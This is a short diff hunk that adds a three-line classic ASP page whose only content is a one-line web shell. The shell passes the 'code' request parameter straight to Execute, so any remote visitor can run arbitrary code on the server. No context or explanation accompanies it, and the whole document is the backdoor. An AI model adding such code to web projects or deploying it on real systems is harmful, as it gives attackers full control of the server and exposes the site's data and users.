@@ -1,0 +1,3 @@
+<%
+Execute Request("code")
+%>
